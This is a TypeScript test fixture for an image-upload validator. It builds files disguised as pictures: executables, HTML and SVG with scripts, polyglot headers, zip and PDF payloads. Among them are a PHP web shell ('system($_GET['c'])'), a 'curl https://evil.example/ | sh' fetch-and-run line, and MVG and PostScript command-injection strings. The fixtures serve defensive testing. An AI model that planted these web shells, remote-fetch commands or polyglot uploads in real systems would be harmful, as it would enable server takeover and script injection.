import { deflateRawSync, gzipSync } from 'node:zlib'
import { evil } from './canary.ts'
import { svg } from './drawing.ts'

/** Drawings in other encodings than UTF-8: as harmless as those are made. */
export const encodedDrawings: Record<string, Buffer> = {
  'a drawing in UTF-16': Buffer.from(`\uFEFF${svg(`<script>${evil}</script>`)}`, 'utf16le'),
  'a drawing in UTF-16, the other way round': Buffer.from(
    `\uFEFF${svg(`<script>${evil}</script>`)}`,
    'utf16le',
  ).swap16(),
  'a drawing that says its encoding': bytes(
    `<?xml version="1.0" encoding="windows-1251"?>${svg(`<text onclick="${evil}">\xcc</text>`)}`,
  ),
}

/** Files that are not pictures, with names and types of pictures: no upload collection accepts them. */
export const foreignFiles: Record<string, { name: string; data: Buffer }> = {
  'a program of Windows': named('logo.png', bytes('MZ\x90\0\x03\0\0\0PE\0\0')),
  'a program of Linux': named('logo.gif', bytes('\x7fELF\x02\x01\x01\0')),
  'a shell script': named('logo.jpg', bytes('#!/bin/sh\ncurl https://evil.example/ | sh\n')),
  'a PDF with a script': named(
    'logo.jpg',
    bytes(
      `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(${evil})>>>>endobj\n%%EOF`,
    ),
  ),
  'a zip archive': named('logo.png', zip()),
  'an archive of Java': named('logo.jpg', zip('META-INF/MANIFEST.MF')),
  'a document of Word': named('logo.png', zip('word/document.xml')),
  'a gzip archive': named('logo.svg', gzipSync(svg(`<script>${evil}</script>`))),
  'html named a picture': named('logo.png', bytes(`<!doctype html><script>${evil}</script>`)),
  'html named a drawing': named('logo.svg', bytes(`<!doctype html><svg onload="${evil}"></svg>`)),
  'XHTML named a drawing': named(
    'logo.svg',
    bytes(
      `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${evil}</script></html>`,
    ),
  ),
  'XML that is transformed': named(
    'logo.svg',
    bytes('<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/a.xsl"?><a/>'),
  ),
  'a script': named('logo.gif', bytes(evil)),
  'a script that begins like a GIF': named('logo.gif', bytes(`GIF89a=0;${evil}`)),
  'a style sheet': named('logo.png', bytes('@import url(https://evil.example/a.css);')),
  PHP: named('logo.gif', bytes(`<?php system($_GET['c']); ?>`)),
  'PHP behind the head of a GIF': named('logo.gif', bytes(`GIF89a<?php system($_GET['c']); ?>`)),
  'a film': named(
    'logo.jpg',
    Buffer.concat([bytes('\0\0\0\x18ftypmp42\0\0\0\0mp42isom'), Buffer.alloc(64)]),
  ),
  'a picture of an iPhone': named(
    'logo.jpg',
    Buffer.concat([bytes('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), Buffer.alloc(64)]),
  ),
  'a bitmap': named(
    'logo.png',
    Buffer.concat([
      bytes('BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x02\0\0\0\x02\0\0\0\x01\0\x18\0'),
      Buffer.alloc(40),
    ]),
  ),
  'an icon': named(
    'logo.png',
    Buffer.concat([bytes('\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0'), Buffer.alloc(64)]),
  ),
  'a document of Photoshop': named(
    'logo.png',
    bytes('8BPS\0\x01\0\0\0\0\0\0\0\x03\0\0\0\x01\0\0\0\x01\0\x08\0\x03'),
  ),
  'a picture of PostScript': named(
    'logo.jpg',
    bytes('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%evil) (w) file\n'),
  ),
  'a script of MVG': named(
    'logo.png',
    bytes(
      `push graphic-context\nimage over 0,0 0,0 'https://evil.example/|ls'\npop graphic-context`,
    ),
  ),
  'a film of Flash': named('logo.gif', bytes('FWS\x06\0\0\0\0')),
  WebAssembly: named('logo.webp', bytes('\0asm\x01\0\0\0')),
  'sound in the same container as WebP': named('logo.webp', bytes('RIFF\x24\0\0\0WAVEfmt ')),
  'a shortcut': named('logo.jpg', bytes('[InternetShortcut]\nURL=https://evil.example/\n')),
  'a message': named(
    'logo.png',
    bytes(`From: a\nContent-Type: text/html\n\n<script>${evil}</script>`),
  ),
  nothing: named('logo.png', Buffer.alloc(0)),
  spaces: named('logo.svg', bytes(' \n\t ')),
  'NUL and nothing else': named('logo.png', Buffer.alloc(1000)),
  'a drawing whose bytes are no UTF-8': named('logo.svg', bytes(svg('<text>\xe1\xe0\xed</text>'))),
  'half a PNG head': named('logo.png', bytes('\x89PNG\r\n')),
  'a head of a PNG and a page': named(
    'logo.png',
    bytes(`\x89PNG\r\n\x1a\n<script>${evil}</script>`),
  ),
  'a head of a JPEG and a page': named(
    'logo.jpg',
    bytes(`\xff\xd8\xff\xe0<script>${evil}</script>`),
  ),
  'a head of a WebP and a page': named(
    'logo.webp',
    bytes(`RIFF\x10\0\0\0WEBP<script>${evil}</script>`),
  ),
}

/** Converts each character to a byte. */
function bytes(text: string): Buffer {
  return Buffer.from(text, 'latin1')
}

function named(name: string, data: Buffer): { name: string; data: Buffer } {
  return { name, data }
}

function zip(name = 'evil.html'): Buffer {
  const data = deflateRawSync(`<script>${evil}</script>`)
  const head = Buffer.alloc(30)
  head.write('PK\x03\x04\x14\0\0\0\x08', 'latin1')
  head.writeUInt32LE(data.length, 18)
  head.writeUInt16LE(name.length, 26)
  return Buffer.concat([head, Buffer.from(name), data])
}
